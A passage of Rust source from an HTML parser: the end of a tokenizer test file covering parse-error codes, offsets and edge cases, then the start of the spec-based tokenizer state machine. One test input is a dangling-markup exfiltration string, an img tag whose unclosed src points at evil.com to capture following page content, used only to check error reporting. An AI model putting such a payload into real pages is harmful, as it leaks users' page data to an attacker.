    // A forgotten closing quote swallows the rest of the file (the dangling
    // markup mechanism) and errors at EOF.
    let (t, e) = toks("<img src='http://evil.com/?content=<p>secret</p>");
    assert!(has_error(&e, ErrorCode::EofInTag));
    assert!(tag_names(&t).is_empty());
}

#[test]
fn eof_before_tag_name() {
    let (t, e) = toks("abc<");
    assert!(has_error(&e, ErrorCode::EofBeforeTagName));
    assert_eq!(text_of(&t), "abc<");
}

#[test]
fn eof_in_comment() {
    let (t, e) = toks("<!-- never closed");
    assert!(has_error(&e, ErrorCode::EofInComment));
    assert!(matches!(&t[0], Token::Comment(c) if c == " never closed"));
}

#[test]
fn empty_input_is_just_eof() {
    let (t, e) = toks("");
    assert_eq!(t, vec![Token::Eof]);
    assert!(e.is_empty());
}

// --- offsets ---

#[test]
fn tag_offsets_point_at_angle_bracket() {
    let (t, _) = toks("ab<p>cd</p>");
    match &t[1] {
        Token::StartTag(tag) => assert_eq!(tag.offset, 2),
        other => panic!("unexpected {other:?}"),
    }
}

#[test]
fn duplicate_attr_error_offset_points_at_name() {
    let input = "<img src=a src=b>";
    let (_, e) = toks(input);
    let err = e.iter().find(|e| e.code == ErrorCode::DuplicateAttribute).unwrap();
    // Offset of the second `src`.
    assert_eq!(err.offset, 11);
}

// --- NUL handling ---

#[test]
fn nul_in_data_reported() {
    let (_, e) = toks("a\0b");
    assert!(has_error(&e, ErrorCode::UnexpectedNullCharacter));
}

#[test]
fn nul_in_tag_name_becomes_replacement() {
    let (t, e) = toks("<di\0v>");
    assert!(has_error(&e, ErrorCode::UnexpectedNullCharacter));
    assert_eq!(t[0].as_start_tag().unwrap().name, "di\u{FFFD}v");
}

// --- unquoted-value anomalies (Figure 13 cases) ---

#[test]
fn quote_in_unquoted_value_errors() {
    // <option value='Cote d'Ivoire'> — the quote inside closes the value,
    // and `Ivoire'` becomes a separate attribute.
    let (t, e) = toks("<option value='Cote d'Ivoire'>");
    // After the value `Cote d` ends at the second quote, `Ivoire'` is
    // lexed as a new attribute name (with a quote character error).
    assert!(
        has_error(&e, ErrorCode::MissingWhitespaceBetweenAttributes)
            || has_error(&e, ErrorCode::UnexpectedCharacterInAttributeName)
    );
    let tag = t[0].as_start_tag().unwrap();
    assert_eq!(tag.attr_value("value"), Some("Cote d"));
}

#[test]
fn lt_in_attribute_name_errors() {
    let (_, e) = toks(r#"<iframe src="x"<"#);
    assert!(has_error(&e, ErrorCode::MissingWhitespaceBetweenAttributes));
}

// --- direct driving of the tokenizer (feedback API) ---

#[test]
fn manual_feedback_controls_content_model() {
    let mut tok = Tokenizer::new("<div>a</div>");
    tok.set_state(State::Plaintext);
    // In PLAINTEXT everything is text; no tags are produced.
    let mut texts = String::new();
    loop {
        match tok.next_token() {
            Token::Characters(s) => texts.push_str(&s),
            Token::Eof => break,
            other => panic!("unexpected token {other:?}"),
        }
    }
    assert_eq!(texts, "<div>a</div>");
}

#[test]
fn allow_cdata_pass_through() {
    let mut tok = Tokenizer::new("<![CDATA[x<y]]>");
    tok.set_allow_cdata(true);
    let mut texts = String::new();
    loop {
        match tok.next_token() {
            Token::Characters(s) => texts.push_str(&s),
            Token::Eof => break,
            other => panic!("unexpected token {other:?}"),
        }
    }
    assert_eq!(texts, "x<y");
    assert!(tok.take_errors().is_empty());
}

// --- deeper edge-case coverage ---

mod edge_cases {
    use super::*;

    #[test]
    fn doctype_missing_public_quote() {
        let (_, e) = toks("<!DOCTYPE html PUBLIC nope>");
        assert!(has_error(&e, ErrorCode::MissingQuoteBeforeDoctypePublicIdentifier));
    }

    #[test]
    fn doctype_abrupt_public_id() {
        let (t, e) = toks("<!DOCTYPE html PUBLIC \"-//W3C\">x");
        assert!(!has_error(&e, ErrorCode::AbruptDoctypePublicIdentifier));
        match &t[0] {
            Token::Doctype(d) => assert_eq!(d.public_id.as_deref(), Some("-//W3C")),
            other => panic!("{other:?}"),
        }
        // Truly abrupt: `>` inside the quoted identifier.
        let (t, e) = toks("<!DOCTYPE html PUBLIC \"-//W3>");
        assert!(has_error(&e, ErrorCode::AbruptDoctypePublicIdentifier));
        assert!(matches!(&t[0], Token::Doctype(d) if d.force_quirks));
    }

    #[test]
    fn doctype_public_and_system() {
        let (t, e) = toks(r#"<!DOCTYPE html PUBLIC "p" "s">"#);
        assert!(e.is_empty());
        match &t[0] {
            Token::Doctype(d) => {
                assert_eq!(d.public_id.as_deref(), Some("p"));
                assert_eq!(d.system_id.as_deref(), Some("s"));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn doctype_missing_whitespace_between_ids() {
        let (_, e) = toks(r#"<!DOCTYPE html PUBLIC "p""s">"#);
        assert!(has_error(
            &e,
            ErrorCode::MissingWhitespaceBetweenDoctypePublicAndSystemIdentifiers
        ));
    }

    #[test]
    fn doctype_system_only() {
        let (t, _) = toks(r#"<!DOCTYPE html SYSTEM "about:legacy-compat">"#);
        assert!(
            matches!(&t[0], Token::Doctype(d) if d.system_id.as_deref() == Some("about:legacy-compat"))
        );
    }

    #[test]
    fn doctype_bogus_name_sequence() {
        let (t, e) = toks("<!DOCTYPE html bogus stuff>");
        assert!(has_error(&e, ErrorCode::InvalidCharacterSequenceAfterDoctypeName));
        assert!(matches!(&t[0], Token::Doctype(d) if d.force_quirks));
    }

    #[test]
    fn comment_with_lt_bang_inside() {
        // <!-- a <! b --> — the CommentLessThanBang machinery.
        let (t, e) = toks("<!-- a <! b -->");
        assert_eq!(t[0], Token::Comment(" a <! b ".into()));
        assert!(e.is_empty());
    }

    #[test]
    fn comment_with_inner_dashes() {
        let (t, _) = toks("<!-- a -- b --->");
        assert_eq!(t[0], Token::Comment(" a -- b -".into()));
    }

    #[test]
    fn ambiguous_ampersand_error_only_with_semicolon() {
        let (_, e) = toks("&noref;");
        assert!(has_error(&e, ErrorCode::UnknownNamedCharacterReference));
        let (_, e) = toks("&noref ");
        assert!(!has_error(&e, ErrorCode::UnknownNamedCharacterReference));
    }

    #[test]
    fn numeric_ref_missing_digits() {
        let (t, e) = toks("x&#;y&#xzz;");
        assert!(has_error(&e, ErrorCode::AbsenceOfDigitsInNumericCharacterReference));
        assert_eq!(text_of(&t), "x&#;y&#xzz;");
    }

    #[test]
    fn numeric_ref_missing_semicolon() {
        let (t, e) = toks("&#65x");
        assert!(has_error(&e, ErrorCode::MissingSemicolonAfterNumericCharacterReference));
        assert_eq!(text_of(&t), "Ax");
    }

    #[test]
    fn numeric_control_reference_remapped() {
        let (t, e) = toks("&#x80;");
        assert!(has_error(&e, ErrorCode::ControlCharacterReference));
        assert_eq!(text_of(&t), "€");
    }

    #[test]
    fn charref_at_eof_variants() {
        for input in ["&", "&a", "&#", "&#x", "&#38"] {
            let (t, _) = toks(input);
            // Never panics, always flushes something sensible.
            let text = text_of(&t);
            assert!(!text.is_empty(), "{input} produced empty text");
        }
    }

    #[test]
    fn equals_before_attribute_name() {
        let (t, e) = toks("<div =oops>");
        assert!(has_error(&e, ErrorCode::UnexpectedEqualsSignBeforeAttributeName));
        let tag = t[0].as_start_tag().unwrap();
        assert_eq!(tag.attrs[0].name, "=oops");
    }

    #[test]
    fn missing_attribute_value() {
        let (t, e) = toks("<div id=>");
        assert!(has_error(&e, ErrorCode::MissingAttributeValue));
        assert_eq!(t[0].as_start_tag().unwrap().attr_value("id"), Some(""));
    }

    #[test]
    fn unquoted_value_bad_chars() {
        let (t, e) = toks("<div data-x=a`b>");
        assert!(has_error(&e, ErrorCode::UnexpectedCharacterInUnquotedAttributeValue));
        assert_eq!(t[0].as_start_tag().unwrap().attr_value("data-x"), Some("a`b"));
    }

    #[test]
    fn self_closing_end_tag_error() {
        let (_, e) = toks("</div/>");
        assert!(has_error(&e, ErrorCode::EndTagWithTrailingSolidus));
    }

    #[test]
    fn script_escaped_state_end_tag() {
        // Inside <!-- --> in script data, </script> DOES close (escaped,
        // not double-escaped).
        let (t, _) = toks("<script><!-- x --></script>y");
        assert_eq!(tag_names(&t), vec!["<script>", "</script>"]);
        assert!(text_of(&t).ends_with('y'));
    }

    #[test]
    fn script_eof_in_comment_like_text() {
        let (_, e) = toks("<script><!-- never closed");
        assert!(has_error(&e, ErrorCode::EofInScriptHtmlCommentLikeText));
    }

    #[test]
    fn rawtext_end_tag_with_attributes_still_closes() {
        let (t, e) = toks("<style>x</style foo=bar>y");
        assert_eq!(tag_names(&t), vec!["<style>", "</style>"]);
        assert!(has_error(&e, ErrorCode::EndTagWithAttributes));
        assert!(text_of(&t).ends_with('y'));
    }

    #[test]
    fn textarea_partial_end_tag_prefix() {
        // "</textare" then more text: not an appropriate end tag.
        let (t, _) = toks("<textarea></textare>x</textarea>");
        assert_eq!(text_of(&t), "</textare>x");
        assert_eq!(tag_names(&t), vec!["<textarea>", "</textarea>"]);
    }

    #[test]
    fn cdata_bracket_machinery() {
        let mut tok = Tokenizer::new("<![CDATA[a]b]]c]]>");
        tok.set_allow_cdata(true);
        let mut text = String::new();
        loop {
            match tok.next_token() {
                Token::Characters(s) => text.push_str(&s),
                Token::Eof => break,
                other => panic!("{other:?}"),
            }
        }
        assert_eq!(text, "a]b]]c");
    }

    #[test]
    fn offsets_monotonic_across_errors() {
        let (_, e) = toks("<img src=a src=b><div id=x id=y><p/ q>");
        let offsets: Vec<usize> = e.iter().map(|e| e.offset).collect();
        let mut sorted = offsets.clone();
        sorted.sort_unstable();
        assert_eq!(offsets, sorted, "tokenizer errors must be emitted in order");
    }

    #[test]
    fn attr_raw_value_slices_match_source() {
        let input = r#"<a href="a&amp;b" title='c&#38;d' rel=e&amp;f>"#;
        let (t, _) = toks(input);
        let tag = t[0].as_start_tag().unwrap();
        assert_eq!(tag.attr("href").unwrap().raw_value(), "a&amp;b");
        assert_eq!(tag.attr("href").unwrap().value, "a&b");
        assert_eq!(tag.attr("title").unwrap().raw_value(), "c&#38;d");
        assert_eq!(tag.attr("title").unwrap().value, "c&d");
        assert_eq!(tag.attr("rel").unwrap().raw_value(), "e&amp;f");
        assert_eq!(tag.attr("rel").unwrap().value, "e&f");
    }
}
