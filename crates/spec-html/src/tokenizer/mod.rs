//! The HTML tokenizer (§13.2.5): a character-driven state machine that turns
//! the preprocessed input stream into [`Token`]s while recording every
//! spec-named parse error it tolerates.
//!
//! Browsers run this exact machine but throw the error states away; the
//! paper's Parsing-Error violations (FB1 `unexpected-solidus-in-tag`, FB2
//! `missing-whitespace-between-attributes`, DM3 `duplicate-attribute`, and
//! the DE3 family's attribute anomalies) *are* those error states, so this
//! implementation keeps them, with offsets, as first-class output.

mod token;

pub use token::{Attr, Doctype, Tag, Token};

use crate::atoms::{Atom, Interner, SharedStr};
use crate::entities;
use crate::errors::{ErrorCode, ParseError};
use crate::preprocess::InputStream;
use crate::scan;
use std::collections::VecDeque;

/// Tokenizer states (§13.2.5.1–80). Names mirror the specification.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum State {
    Data,
    Rcdata,
    Rawtext,
    ScriptData,
    Plaintext,
    TagOpen,
    EndTagOpen,
    TagName,
    RcdataLessThan,
    RcdataEndTagOpen,
    RcdataEndTagName,
    RawtextLessThan,
    RawtextEndTagOpen,
    RawtextEndTagName,
    ScriptDataLessThan,
    ScriptDataEndTagOpen,
    ScriptDataEndTagName,
    ScriptDataEscapeStart,
    ScriptDataEscapeStartDash,
    ScriptDataEscaped,
    ScriptDataEscapedDash,
    ScriptDataEscapedDashDash,
    ScriptDataEscapedLessThan,
    ScriptDataEscapedEndTagOpen,
    ScriptDataEscapedEndTagName,
    ScriptDataDoubleEscapeStart,
    ScriptDataDoubleEscaped,
    ScriptDataDoubleEscapedDash,
    ScriptDataDoubleEscapedDashDash,
    ScriptDataDoubleEscapedLessThan,
    ScriptDataDoubleEscapeEnd,
    BeforeAttributeName,
    AttributeName,
    AfterAttributeName,
    BeforeAttributeValue,
    AttributeValueDouble,
    AttributeValueSingle,
    AttributeValueUnquoted,
    AfterAttributeValueQuoted,
    SelfClosingStartTag,
    BogusComment,
    MarkupDeclarationOpen,
    CommentStart,
    CommentStartDash,
    Comment,
    CommentLessThan,
    CommentLessThanBang,
    CommentLessThanBangDash,
    CommentLessThanBangDashDash,
    CommentEndDash,
    CommentEnd,
    CommentEndBang,
    Doctype,
    BeforeDoctypeName,
    DoctypeName,
    AfterDoctypeName,
    AfterDoctypePublicKeyword,
    BeforeDoctypePublicId,
    DoctypePublicIdDouble,
    DoctypePublicIdSingle,
    AfterDoctypePublicId,
    BetweenDoctypePublicSystem,
    AfterDoctypeSystemKeyword,
    BeforeDoctypeSystemId,
    DoctypeSystemIdDouble,
    DoctypeSystemIdSingle,
    AfterDoctypeSystemId,
    BogusDoctype,
    CdataSection,
    CdataSectionBracket,
    CdataSectionEnd,
    CharacterReference,
    NamedCharacterReference,
    AmbiguousAmpersand,
    NumericCharacterReference,
    HexCharRefStart,
    DecCharRefStart,
    HexCharRef,
    DecCharRef,
    NumericCharRefEnd,
}

/// Which kind of tag token is under construction.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum TagKind {
    Start,
    End,
}

/// Scratch buffers for the attribute under construction. One lives in the
/// tokenizer for its whole lifetime and is recycled across attributes and
/// tags — `start_new_attr` clears the buffers (keeping their capacity)
/// instead of allocating fresh `String`s per attribute.
#[derive(Debug, Default)]
struct AttrBuilder {
    /// Whether an attribute is currently being built. Replaces the old
    /// `Option<AttrBuilder>`: `false` ⇔ the old `None`.
    active: bool,
    name: String,
    value: String,
    /// Raw (undecoded) source text of the value. Only maintained once
    /// `diverged` is set; until then the raw text equals `value` and is not
    /// stored separately.
    raw_value: String,
    /// Set by the first decoded character reference in the value — the only
    /// way raw and decoded text can differ.
    diverged: bool,
    name_offset: usize,
    /// Set when leaving the attribute-name state if the name already exists
    /// on the tag: the attribute is a spec `duplicate-attribute`.
    duplicate: bool,
    /// The interned name, filled by the duplicate check when the name is
    /// complete so `finish_cur_attr` doesn't intern a second time.
    atom: Option<Atom>,
}

/// The tokenizer. Feed it the decoded document text — preprocessing
/// (newline normalization, control/noncharacter errors) happens inline via
/// [`InputStream`], with no intermediate character buffer. Pull tokens with
/// [`Tokenizer::next_token`]. The tree builder drives the tag feedback
/// (RCDATA/RAWTEXT/script-data switching) via [`Tokenizer::set_state`] and
/// [`Tokenizer::set_last_start_tag`].
pub struct Tokenizer<'a> {
    stream: InputStream<'a>,
    /// Whether the batched fast paths (whole-slice appends over plain
    /// character runs) are enabled; disabled only by [`Tokenizer::new_scalar`]
    /// so tests can compare both modes.
    batched: bool,
    state: State,
    return_state: State,
    errors: Vec<ParseError>,
    pending: VecDeque<Token>,
    text_buf: String,

    tag_kind: TagKind,
    tag_name: String,
    tag_self_closing: bool,
    tag_attrs: Vec<Attr>,
    tag_dup_attrs: Vec<Attr>,
    tag_offset: usize,
    cur_attr: AttrBuilder,
    /// Per-parse dedup for names outside the static atom table; fresh per
    /// tokenizer, so dynamic atoms never leak between documents.
    interner: Interner,
    /// The previously emitted tag's name atom. Documents repeat tag names
    /// constantly (`<p>...</p><p>...`), so this one-entry memo turns most
    /// tag-name interns into a single string compare plus a cheap clone.
    last_tag_atom: Atom,

    comment: String,
    doctype: Option<Doctype>,
    last_start_tag: String,
    temp_buffer: String,
    char_ref_code: u32,
    /// Start of the pending character reference (`&`) as a char offset
    /// (for error reporting) and a byte offset (for raw-source slicing).
    char_ref_start: usize,
    char_ref_start_byte: usize,
    allow_cdata: bool,
    eof_done: bool,
    /// Whether the most recent `next()` consumed a character (vs. hit EOF);
    /// governs whether `reconsume` steps the position back.
    last_consumed: bool,
}

impl<'a> Tokenizer<'a> {
    pub fn new(input: &'a str) -> Self {
        Self::with_mode(input, true)
    }

    /// A tokenizer with the batched fast paths disabled — every character is
    /// pulled through the scalar state machine. Output is identical to
    /// [`Tokenizer::new`]; tests use both to prove it.
    pub fn new_scalar(input: &'a str) -> Self {
        Self::with_mode(input, false)
    }

    fn with_mode(input: &'a str, batched: bool) -> Self {
        Tokenizer {
            stream: InputStream::new(input),
            batched,
            state: State::Data,
            return_state: State::Data,
            errors: Vec::new(),
            pending: VecDeque::new(),
            text_buf: String::new(),
            tag_kind: TagKind::Start,
            tag_name: String::new(),
            tag_self_closing: false,
            tag_attrs: Vec::new(),
            tag_dup_attrs: Vec::new(),
            tag_offset: 0,
            cur_attr: AttrBuilder::default(),
            interner: Interner::new(),
            last_tag_atom: Atom::default(),
            comment: String::new(),
            doctype: None,
            last_start_tag: String::new(),
            temp_buffer: String::new(),
            char_ref_code: 0,
            char_ref_start: 0,
            char_ref_start_byte: 0,
            allow_cdata: false,
            eof_done: false,
            last_consumed: false,
        }
    }

    /// Consume input until the next token is available.
    pub fn next_token(&mut self) -> Token {
        loop {
            if let Some(t) = self.pending.pop_front() {
                return t;
            }
            if self.eof_done {
                return Token::Eof;
            }
            self.step();
        }
    }

    /// Drain the parse errors recorded so far.
    pub fn take_errors(&mut self) -> Vec<ParseError> {
        std::mem::take(&mut self.errors)
    }

    /// Drain the input-stream preprocessing errors (control characters,
    /// noncharacters). The list is complete once an EOF token has been
    /// emitted, since that requires consuming the whole stream.
    pub fn take_preprocess_errors(&mut self) -> Vec<ParseError> {
        self.stream.take_errors()
    }

    /// Tree-construction feedback: switch the machine state (used for
    /// RCDATA/RAWTEXT/script-data/PLAINTEXT content models).
    pub fn set_state(&mut self, state: State) {
        self.state = state;
    }

    /// Tree-construction feedback: the name used by the "appropriate end
    /// tag" check in RCDATA/RAWTEXT/script content.
    pub fn set_last_start_tag(&mut self, name: &str) {
        self.last_start_tag.clear();
        self.last_start_tag.push_str(name);
    }

    /// Tree-construction feedback: whether `<![CDATA[` opens a real CDATA
    /// section (true only while the adjusted current node is foreign).
    pub fn set_allow_cdata(&mut self, allow: bool) {
        self.allow_cdata = allow;
    }

    /// Standalone-mode feedback equivalent to the tree builder's content
    /// model switches, used by [`crate::tokenize`].
    pub fn apply_default_feedback(&mut self, name: &str) {
        match name {
            "title" | "textarea" => self.set_state(State::Rcdata),
            "style" | "xmp" | "iframe" | "noembed" | "noframes" => self.set_state(State::Rawtext),
            "script" => self.set_state(State::ScriptData),
            "plaintext" => self.set_state(State::Plaintext),
            _ => {}
        }
        self.set_last_start_tag(name);
    }

    /// Current position in the input (normalized characters consumed so far).
    pub fn position(&self) -> usize {
        self.stream.chars_consumed()
    }

    // ----- low-level helpers -----

    fn next(&mut self) -> Option<char> {
        let c = self.stream.next();
        self.last_consumed = c.is_some();
        c
    }

    /// Reprocess the current input character (or EOF) in `state`.
    fn reconsume(&mut self, state: State) {
        if self.last_consumed {
            self.stream.un_next();
            self.last_consumed = false;
        }
        self.state = state;
    }

    fn error(&mut self, code: ErrorCode) {
        // Offsets point at the character that triggered the error (the one
        // just consumed), or at EOF.
        let off = self.stream.chars_consumed().saturating_sub(1);
        self.errors.push(ParseError::new(code, off));
    }

    fn error_at(&mut self, code: ErrorCode, off: usize) {
        self.errors.push(ParseError::new(code, off));
    }

    fn emit_char(&mut self, c: char) {
        self.text_buf.push(c);
    }

    fn emit_str(&mut self, s: &str) {
        self.text_buf.push_str(s);
    }

    fn flush_text(&mut self) {
        if !self.text_buf.is_empty() {
            let s = std::mem::take(&mut self.text_buf);
            self.pending.push_back(Token::Characters(s));
        }
    }

    fn emit_eof(&mut self) {
        self.flush_text();
        self.pending.push_back(Token::Eof);
        self.eof_done = true;
    }

    fn emit_comment(&mut self) {
        self.flush_text();
        let c = std::mem::take(&mut self.comment);
        self.pending.push_back(Token::Comment(c));
    }

    fn emit_doctype(&mut self) {
        self.flush_text();
        let d = self.doctype.take().unwrap_or_default();
        self.pending.push_back(Token::Doctype(d));
    }

    // ----- tag construction -----

    fn new_tag(&mut self, kind: TagKind) {
        self.tag_kind = kind;
        self.tag_name.clear();
        self.tag_self_closing = false;
        self.tag_attrs.clear();
        self.tag_dup_attrs.clear();
        self.cur_attr.active = false;
        // The `<` is one or two chars back (`</` for end tags).
        let pos = self.stream.chars_consumed();
        self.tag_offset = pos.saturating_sub(if kind == TagKind::End { 3 } else { 2 });
    }

    /// Scalar entry: the first name character was just consumed, so the
    /// attribute starts one character back.
    fn start_new_attr(&mut self) {
        let offset = self.stream.chars_consumed().saturating_sub(1);
        self.start_new_attr_at(offset);
    }

    /// Shared with the fused batched path, which starts an attribute
    /// *before* consuming its first character and passes the offset
    /// explicitly.
    fn start_new_attr_at(&mut self, name_offset: usize) {
        self.finish_cur_attr();
        let a = &mut self.cur_attr;
        a.active = true;
        a.name.clear();
        a.value.clear();
        a.raw_value.clear();
        a.diverged = false;
        a.duplicate = false;
        a.atom = None;
        a.name_offset = name_offset;
    }

    /// Leaving the attribute-name state: the spec's duplicate check. The
    /// name is final here, so this is also where it is interned — the
    /// comparison against earlier attributes is then an atom compare (an
    /// integer compare for table names) instead of a string compare per
    /// attribute.
    fn check_duplicate_attr(&mut self) {
        if !self.cur_attr.active {
            return;
        }
        let atom = self.interner.intern(&self.cur_attr.name);
        if self.tag_attrs.iter().any(|a| a.name == atom) {
            self.cur_attr.duplicate = true;
            let off = self.cur_attr.name_offset;
            self.error_at(ErrorCode::DuplicateAttribute, off);
        }
        self.cur_attr.atom = Some(atom);
    }

    fn finish_cur_attr(&mut self) {
        if !self.cur_attr.active {
            return;
        }
        self.cur_attr.active = false;
        let name = match self.cur_attr.atom.take() {
            Some(a) => a,
            // Rare: the tag ended while still inside the attribute name, so
            // the duplicate check never ran.
            None => self.interner.intern(&self.cur_attr.name),
        };
        let value = SharedStr::new(&self.cur_attr.value);
        let raw = if self.cur_attr.diverged {
            Some(SharedStr::new(&self.cur_attr.raw_value))
        } else {
            None
        };
        let attr = Attr::with_raw(name, value, raw, self.cur_attr.name_offset);
        if self.cur_attr.duplicate {
            self.tag_dup_attrs.push(attr);
        } else {
            // The attrs Vec is handed off with the tag (capacity 0 on the
            // next tag), so skip the 1→2→4→8 realloc ladder up front.
            // Tags without attributes never reach here and stay alloc-free.
            if self.tag_attrs.capacity() == 0 {
                self.tag_attrs.reserve(8);
            }
            self.tag_attrs.push(attr);
        }
    }

    fn append_attr_value(&mut self, c: char) {
        if self.cur_attr.active {
            self.cur_attr.value.push(c);
            if self.cur_attr.diverged {
                self.cur_attr.raw_value.push(c);
            }
        }
    }

    fn emit_tag(&mut self) {
        self.finish_cur_attr();
        self.flush_text();
        let name = if self.last_tag_atom.as_str() == self.tag_name {
            self.last_tag_atom.clone()
        } else {
            let atom = self.interner.intern(&self.tag_name);
            self.last_tag_atom = atom.clone();
            atom
        };
        self.tag_name.clear();
        let tag = Tag {
            name,
            self_closing: self.tag_self_closing,
            attrs: std::mem::take(&mut self.tag_attrs),
            duplicate_attrs: std::mem::take(&mut self.tag_dup_attrs),
            offset: self.tag_offset,
        };
        match self.tag_kind {
            TagKind::Start => {
                self.last_start_tag.clear();
                self.last_start_tag.push_str(&tag.name);
                self.pending.push_back(Token::StartTag(tag));
            }
            TagKind::End => {
                if !tag.attrs.is_empty() || !tag.duplicate_attrs.is_empty() {
                    self.error(ErrorCode::EndTagWithAttributes);
                }
                if tag.self_closing {
                    self.error(ErrorCode::EndTagWithTrailingSolidus);
                }
                self.pending.push_back(Token::EndTag(tag));
            }
        }
    }

    /// Whether the end tag under construction matches the last emitted start
    /// tag (the "appropriate end tag token" condition).
    fn is_appropriate_end_tag(&self) -> bool {
        self.tag_kind == TagKind::End && self.tag_name == self.last_start_tag
    }

    // ----- character reference helpers -----

    fn charref_in_attribute(&self) -> bool {
        matches!(
            self.return_state,
            State::AttributeValueDouble
                | State::AttributeValueSingle
                | State::AttributeValueUnquoted
        )
    }

    /// The raw source span of the pending character reference, from its `&`
    /// to the cursor. Such spans consist of `&`, `#`, `x`, ASCII
    /// alphanumerics, and `;` only — never CR — so the raw bytes equal the
    /// normalized characters and the slice can be used verbatim.
    fn charref_raw(&self) -> &'a str {
        let raw = self.stream.slice(self.char_ref_start_byte, self.stream.byte_pos());
        debug_assert!(raw.is_ascii() && !raw.contains('\r'));
        raw
    }

    /// Flush the raw characters consumed as (part of) a character reference
    /// without decoding them.
    fn flush_charref_literal(&mut self) {
        let slice = self.charref_raw();
        if self.charref_in_attribute() {
            if self.cur_attr.active {
                self.cur_attr.value.push_str(slice);
                if self.cur_attr.diverged {
                    self.cur_attr.raw_value.push_str(slice);
                }
            }
        } else {
            self.emit_str(slice);
        }
    }

    /// Flush a decoded character reference: decoded text to the value,
    /// original source characters to the raw value. This is the one place
    /// the raw text can diverge from the decoded value; the raw buffer is
    /// materialized lazily here, seeded with the (identical so far) value.
    fn flush_charref_decoded(&mut self, decoded: &str) {
        if self.charref_in_attribute() {
            let raw = self.charref_raw();
            if self.cur_attr.active {
                let AttrBuilder { value, raw_value, diverged, .. } = &mut self.cur_attr;
                if !*diverged {
                    *diverged = true;
                    raw_value.clear();
                    raw_value.push_str(value);
                }
                value.push_str(decoded);
                raw_value.push_str(raw);
            }
        } else {
            self.emit_str(decoded);
        }
    }

    /// Flush a lone `&` that turned out not to start a reference.
    fn flush_charref_amp(&mut self) {
        if self.charref_in_attribute() {
            if self.cur_attr.active {
                self.cur_attr.value.push('&');
                if self.cur_attr.diverged {
                    self.cur_attr.raw_value.push('&');
                }
            }
        } else {
            self.emit_char('&');
        }
    }

    // ----- the state machine -----

    /// Record that a character reference starts at the just-consumed `&`.
    fn mark_charref_start(&mut self) {
        self.char_ref_start = self.stream.chars_consumed() - 1;
        self.char_ref_start_byte = self.stream.byte_pos() - 1;
    }

    /// Batched fast path: in states whose per-character action for plain
    /// characters is "append and stay", consume the whole run of plain
    /// characters at once (found with a SWAR byte scan, see [`crate::scan`])
    /// and append it as a single slice. Returns `true` if it made progress;
    /// anything it could not prove inert (delimiters, NUL, CR, controls,
    /// non-ASCII) is left for the scalar machine.
    ///
    /// On top of the runs, the tag states *fuse* the single-character
    /// transitions that the spec defines with no parse error and no side
    /// effect beyond a state change — the `=` after an attribute name, the
    /// quotes around a value, the space between attributes, the closing
    /// `>`. Each fused byte is checked with [`InputStream::eat_byte`] and
    /// falls back to the scalar machine when absent, so every error path
    /// (EOF, NUL, CR, `<` in names, missing whitespace, ...) still takes
    /// the spec's per-character arms. The stream-equivalence tests compare
    /// this path against the scalar reference token-for-token and
    /// error-for-error.
    fn step_batched(&mut self) -> bool {
        // The text-like arm stays inline and first: it is the whole fast
        // path for document content, and keeping the tag-state machinery in
        // separate functions keeps this function small enough to inline
        // into `step`.
        let delims: &[u8] = match self.state {
            State::Data | State::Rcdata => b"&<",
            State::Rawtext | State::ScriptData => b"<",
            State::Plaintext => &[],
            State::Comment => b"<-",
            State::TagName => return self.step_batched_tag_name(),
            State::BeforeAttributeName | State::AfterAttributeName => {
                return self.step_batched_attr_start()
            }
            State::AttributeName => return self.step_batched_attr_name(),
            State::AttributeValueUnquoted => return self.step_batched_unquoted_value(),
            State::AttributeValueDouble | State::AttributeValueSingle => {
                return self.step_batched_quoted_value()
            }
            _ => return false,
        };
        let run = self.stream.take_plain_run(delims);
        if run.is_empty() {
            return false;
        }
        if self.state == State::Comment {
            self.comment.push_str(run);
        } else {
            self.text_buf.push_str(run);
        }
        true
    }

    /// Batched TagName: append the lowercased name run, then fuse the
    /// error-free exits (space, `>`, `/`).
    fn step_batched_tag_name(&mut self) -> bool {
        let run = self.stream.take_tag_name_run();
        if run.is_empty() {
            return false;
        }
        let start = self.tag_name.len();
        self.tag_name.push_str(run);
        self.tag_name[start..].make_ascii_lowercase();
        if self.stream.eat_byte(b' ') {
            self.state = State::BeforeAttributeName;
        } else if self.stream.eat_byte(b'>') {
            self.state = State::Data;
            self.emit_tag();
        } else if self.stream.eat_byte(b'/') {
            self.state = State::SelfClosingStartTag;
        }
        true
    }

    /// Batched BeforeAttributeName / AfterAttributeName: skip the space run,
    /// then open the next attribute when a name-start byte follows. A
    /// name-start byte begins an attribute in both states, error-free;
    /// everything else (`/`, `>`, `=`, EOF, ...) stays scalar.
    fn step_batched_attr_start(&mut self) -> bool {
        let mut progressed = false;
        while self.stream.eat_byte(b' ') {
            progressed = true;
        }
        if self.stream.peek_byte().is_some_and(scan::is_attr_name_start) {
            self.start_new_attr_at(self.stream.chars_consumed());
            self.state = State::AttributeName;
            return true;
        }
        progressed
    }

    /// Batched AttributeName: append the lowercased name run, then fuse the
    /// error-free exits — `=` (plus an immediately following quote), space,
    /// `>`, `/` — each of which leaves the name final and so runs the
    /// spec's duplicate check here.
    fn step_batched_attr_name(&mut self) -> bool {
        if !self.cur_attr.active {
            return false;
        }
        let run = self.stream.take_attr_name_run();
        let progressed = !run.is_empty();
        if progressed {
            let start = self.cur_attr.name.len();
            self.cur_attr.name.push_str(run);
            self.cur_attr.name[start..].make_ascii_lowercase();
        }
        if self.stream.eat_byte(b'=') {
            self.check_duplicate_attr();
            if self.stream.eat_byte(b'"') {
                self.state = State::AttributeValueDouble;
            } else if self.stream.eat_byte(b'\'') {
                self.state = State::AttributeValueSingle;
            } else {
                self.state = State::BeforeAttributeValue;
            }
            return true;
        }
        if self.stream.eat_byte(b' ') {
            self.check_duplicate_attr();
            self.state = State::AfterAttributeName;
            return true;
        }
        if self.stream.eat_byte(b'>') {
            self.check_duplicate_attr();
            self.state = State::Data;
            self.emit_tag();
            return true;
        }
        if self.stream.eat_byte(b'/') {
            self.check_duplicate_attr();
            self.state = State::SelfClosingStartTag;
            return true;
        }
        progressed
    }

    /// Batched unquoted AttributeValue: append the value run, then fuse the
    /// error-free exits (space, `>`).
    fn step_batched_unquoted_value(&mut self) -> bool {
        if !self.cur_attr.active {
            return false;
        }
        let run = self.stream.take_unquoted_value_run();
        let progressed = !run.is_empty();
        if progressed {
            self.cur_attr.value.push_str(run);
            if self.cur_attr.diverged {
                self.cur_attr.raw_value.push_str(run);
            }
        }
